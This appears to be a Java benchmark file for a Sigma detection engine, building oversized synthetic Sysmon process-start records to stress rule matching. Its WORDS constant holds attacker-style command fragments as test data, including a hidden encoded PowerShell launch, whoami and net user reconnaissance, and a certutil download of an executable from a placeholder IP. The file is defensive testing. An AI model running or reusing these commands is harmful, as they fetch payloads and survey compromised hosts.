package io.redoubt.bench;

import io.redoubt.detect.sigma.LoadedRules;
import io.redoubt.detect.sigma.rule.Expr;
import io.redoubt.detect.sigma.rule.SigmaRule;
import io.redoubt.detect.sigma.rule.ValueTest;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/// Records of nearly a megabyte, each of a shape that is dear for rules, in JSON as Sysmon's
/// process starts come, but for one that is a bare line. The same for the same rules.
final class HostileEvents {
  /// How long values are together: what is left of a megabyte holds the other fields.
  private static final int LENGTH = 1_000_000;

  private static final int FIELDS = 200;
  private static final String BASE64 =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  private static final String WORDS =
      "powershell.exe -nop -w hidden -enc cmd.exe /c whoami /all & net user rundll32.exe"
          + " C:\\Users\\Public\\x.dll,Start certutil.exe -urlcache -split -f"
          + " http://198.51.100.7/x.exe ";

  private HostileEvents() {}

  /// The records by name.
  static Map<String, String> of(LoadedRules rules) {
    Random random = new Random(7);
    List<String> texts = texts(rules);
    Collections.shuffle(texts, random);
    Map<String, String> made = new LinkedHashMap<>();
    made.put("one letter", command("a".repeat(LENGTH)));
    made.put("blanks", command(" ".repeat(LENGTH)));
    made.put("backslashes", command("\\".repeat(LENGTH / 2)));
    made.put("dots and slashes", command("../".repeat(LENGTH / 3)));
    made.put("base64", command(drawn(BASE64, random)));
    made.put("hexadecimal", command(drawn("0123456789abcdef", random)));
    made.put("printable signs", command(drawn(printable(), random)));
    made.put("beyond ASCII", command("\u00e9\u0431\u4e2d ".repeat(LENGTH / 8)));
    made.put("ASCII, then one sign beyond", command(wall(texts, " ", LENGTH) + "\u00e9"));
    made.put("command lines", command(WORDS.repeat(LENGTH / WORDS.length())));
    made.put("command lines, any case", command(anyCase(WORDS, random)));
    made.put("all texts of rules", command(wall(texts, " ", LENGTH)));
    made.put("all texts of rules, no blank", command(wall(texts, "", LENGTH)));
    made.put("all texts, the last sign another", command(wall(cut(texts), "~", LENGTH)));
    made.put("all texts, the first sign another", command(wall(headless(texts), "~", LENGTH)));
    made.put("all texts in escapes of JSON", escaped(wall(texts, " ", LENGTH / 7)));
    made.put("all texts in four fields", four(wall(texts, " ", LENGTH / 4)));
    made.put("all texts in 200 fields", many(wall(texts, " ", LENGTH / FIELDS)));
    made.put("10,000 fields", numerous());
    made.put("all texts, a bare line", wall(texts, " ", LENGTH));
    return made;
  }

  /// What rules look for, each once: the parts between wildcards.
  private static List<String> texts(LoadedRules rules) {
    Map<String, Boolean> texts = new LinkedHashMap<>();
    for (SigmaRule rule : rules.rules()) {
      texts(rule.expr(), texts);
    }
    return new ArrayList<>(texts.keySet());
  }

  private static void texts(Expr expr, Map<String, Boolean> texts) {
    switch (expr) {
      case Expr.All(List<Expr> parts) -> parts.forEach(part -> texts(part, texts));
      case Expr.Any(List<Expr> parts) -> parts.forEach(part -> texts(part, texts));
      case Expr.Not(Expr part) -> texts(part, texts);
      case Expr.FieldTest test -> test.tests().forEach(one -> text(one, texts));
      case Expr.Keywords words -> words.tests().forEach(one -> text(one, texts));
    }
  }

  private static void text(ValueTest test, Map<String, Boolean> texts) {
    if (test instanceof ValueTest.Text text) {
      String needed = text.glob().necessary();
      if (needed.chars().allMatch(c -> c >= ' ' && c < 127) && !needed.isEmpty()) {
        texts.put(needed, true);
      }
    }
  }

  private static List<String> cut(List<String> texts) {
    return texts.stream().map(text -> text.substring(0, text.length() - 1)).toList();
  }

  private static List<String> headless(List<String> texts) {
    return texts.stream().map(text -> text.substring(1)).toList();
  }

  private static String wall(List<String> texts, String between, int length) {
    StringBuilder wall = new StringBuilder(length);
    for (int i = 0; ; i = (i + 1) % texts.size()) {
      String text = texts.get(i);
      if (wall.length() + quoted(text).length() + between.length() > length) {
        return wall.toString();
      }
      wall.append(text).append(between);
    }
  }

  private static String drawn(String alphabet, Random random) {
    StringBuilder text = new StringBuilder(LENGTH);
    while (text.length() < LENGTH * 9 / 10) {
      text.append(alphabet.charAt(random.nextInt(alphabet.length())));
    }
    return text.toString();
  }

  private static String printable() {
    StringBuilder signs = new StringBuilder();
    for (char c = ' '; c < 127; c++) {
      signs.append(c);
    }
    return signs.toString();
  }

  private static String anyCase(String words, Random random) {
    StringBuilder text = new StringBuilder(LENGTH);
    while (text.length() + words.length() < LENGTH) {
      for (char c : words.toCharArray()) {
        text.append(random.nextBoolean() ? Character.toUpperCase(c) : c);
      }
    }
    return text.toString();
  }

  private static String quoted(String text) {
    return text.replace("\\", "\\\\").replace("\"", "\\\"");
  }

  private static String command(String line) {
    return record(",\"CommandLine\":\"" + quoted(line) + "\"");
  }

  private static String four(String text) {
    String same = quoted(text);
    return record(
        ",\"CommandLine\":\"%s\",\"ParentCommandLine\":\"%s\",\"ParentImage\":\"%s\",\"User\":\"%s\""
            .formatted(same, same, same, same));
  }

  private static String escaped(String text) {
    StringBuilder escapes = new StringBuilder();
    text.chars().forEach(c -> escapes.append("\\u%04x".formatted(c)));
    return record(",\"CommandLine\":\"" + escapes + "\"");
  }

  private static String many(String text) {
    StringBuilder fields = new StringBuilder(",\"CommandLine\":\"x.exe\"");
    for (int i = 0; i < FIELDS; i++) {
      fields.append(",\"f").append(i).append("\":\"").append(quoted(text)).append('"');
    }
    return record(fields.toString());
  }

  private static String numerous() {
    StringBuilder fields = new StringBuilder(",\"CommandLine\":\"x.exe\"");
    for (int i = 0; i < 10_000; i++) {
      fields.append(",\"f").append(i).append("\":\"").append(WORDS, 0, 30).append('"');
    }
    return record(fields.toString());
  }

  private static String record(String fields) {
    return "{\"@timestamp\":\"2026-11-01T12:00:00.000Z\",\"Channel\":"
        + "\"Microsoft-Windows-Sysmon/Operational\",\"SourceName\":\"Microsoft-Windows-Sysmon\","
        + "\"EventID\":1,\"Hostname\":\"ws1\",\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\""
        + fields
        + "}";
  }
}
